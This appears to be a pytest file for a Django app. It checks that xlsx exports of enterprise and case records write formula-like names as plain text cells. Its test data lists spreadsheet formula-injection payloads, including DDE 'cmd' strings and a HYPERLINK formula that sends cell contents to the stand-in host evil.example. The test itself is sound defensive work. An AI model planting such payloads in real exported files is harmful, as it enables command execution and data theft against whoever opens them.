"""Exports write text as text: an enterprise named like a formula (a DDE command, a HYPERLINK)
is a plain string cell in every export that shows it, never a live formula."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.enterprises.helpers import make_enterprise

pytestmark = pytest.mark.django_db

NAMES = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
]


def _cells(content: bytes):
    ws = load_workbook(io.BytesIO(content)).active
    return [cell for row in ws.iter_rows(min_row=2) for cell in row]


def test_enterprise_export_writes_formula_like_names_as_strings(world, login):
    for name in NAMES:
        make_enterprise(name, world.grid)
    response = login(world.alice).get(reverse("enterprises:enterprise_list"), {"export": "xlsx"})
    cells = {c.value: c for c in _cells(response.content) if c.value in NAMES}
    assert set(cells) == set(NAMES)
    for cell in cells.values():
        assert cell.data_type == "s", (cell.value, cell.data_type)


def test_case_export_writes_formula_like_enterprise_names_as_strings(world, login):
    from tests.cases.conftest import CaseWorld
    from zhuqi.cases import services

    cw = CaseWorld(world)
    ent = make_enterprise(NAMES[0], cw.w.grid)
    services.create_case(ent, channel="h12345", title=NAMES[1], description="x", actor=cw.w.alice)
    response = login(cw.w.alice).get(reverse("cases:export"))
    cells = {c.value: c for c in _cells(response.content) if c.value in NAMES}
    assert set(cells) == {NAMES[0], NAMES[1]}
    assert all(c.data_type == "s" for c in cells.values())
